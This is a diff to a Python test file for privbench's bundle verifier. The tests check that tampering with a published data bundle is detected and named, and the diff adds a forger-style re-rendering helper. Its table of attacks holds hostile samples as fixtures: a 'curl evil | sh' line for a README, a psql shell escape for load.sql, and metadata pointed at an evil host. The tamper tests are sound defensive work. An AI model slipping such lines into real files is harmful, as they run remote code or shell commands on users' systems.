@@ -11,8 +11,11 @@ import pyarrow.parquet as papq
 import pytest
 
 from privbench.errors import GateFailed
-from privbench.publish import verify
+from privbench.postgres.ddl import Ddl
+from privbench.publish import facts, verify
 from privbench.publish.checksums import MAX_TEXT, digest, sums_text, walk
+from privbench.publish.scripts import rendered
+from privbench.workload import read as read_workload
 
 
 def seal(folder):
@@ -34,7 +37,7 @@ def refused(folder, *, sealed=True):
 def test_a_bit_flipped_in_any_file_is_named(bundle):
     draw = random.Random(3)
     files = walk(bundle)
-    assert len(files) > 30
+    assert len(files) > 20
     for name in files:
         path = bundle / name
         data = path.read_bytes()
@@ -44,9 +47,21 @@ def test_a_bit_flipped_in_any_file_is_named(bundle):
         path.write_bytes(data)
     for name in files:
         os.rename(bundle / name, bundle / "gone")
-        assert name in refused(bundle, sealed=False)
+        assert refused(bundle, sealed=False).startswith((name, "gone"))
         os.rename(bundle / "gone", bundle / name)
     verify(bundle)
+
+
+def render_again(folder):
+    """The texts that follow from the facts and the rows, as a thorough forger writes them."""
+    about = facts.parse(facts.Bundle, (folder / FACTS).read_bytes())
+    certificate = facts.parse(facts.Certificate, (folder / PAPER).read_bytes())
+    ddl = Ddl((folder / BEFORE).read_text(), (folder / AFTER).read_text())
+    workload = read_workload(folder / facts.WORKLOAD, "native")
+    rows = [name for name in walk(folder) if name.startswith("data/")]
+    digests = {name: digest(folder, name) for name in rows}
+    for name, text in rendered(about, certificate, ddl, workload, digests).items():
+        (folder / name).write_bytes(text)
 
 
 def append(name, text):
@@ -156,7 +171,7 @@ ATTACKS = {
     "a load": (append("load.sql", "\\! id\n"), "load.sql: not what privbench writes"),
     "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
     "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
-    "a certificate for people": (swap("certificate.md", "| ε | 3", "| ε | 1"), "certificate.md: "),
+    "a certificate for people": (swap("certificate.md", "| ε | 30", "| ε | 1"), "certificate.md: "),
     "metadata": (
         swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'),
         "croissant",
@@ -181,10 +196,6 @@ ATTACKS = {
         "workload/workload.json"),
     "a secret workload": (
         put("workload/workload.json", "confidential", value=True), "CONFIDENTIAL"),
-    "other rows in Parquet": (other_rows, "00001.parquet: its rows are not those"),
-    "other types in Parquet": (other_types, "00001.parquet: its columns"),
-    "spoilt Parquet": (garbage, "00001.parquet: "),
-    "fewer rows": (forget_line, "00001.csv: it holds another number of rows"),
 }  # fmt: skip
 
 
@@ -192,6 +203,19 @@ ATTACKS = {
 def test_what_was_done_is_named(bundle, name):
     change, said = ATTACKS[name]
     change(bundle)
+    assert said in refused(bundle)
+
+
+@pytest.mark.parametrize(("change", "said"), [
+    (other_rows, "00001.parquet: its rows are not those"),
+    (other_types, "00001.parquet: its columns"),
+    (garbage, "00001.parquet: "),
+    (forget_line, "00001.csv: it holds another number of rows"),
+])  # fmt: skip
+def test_rows_that_were_changed_are_named_even_if_all_texts_fit_them(bundle, change, said):
+    change(bundle)
+    assert "not what privbench writes" in refused(bundle)
+    render_again(bundle)
     assert said in refused(bundle)
 
 
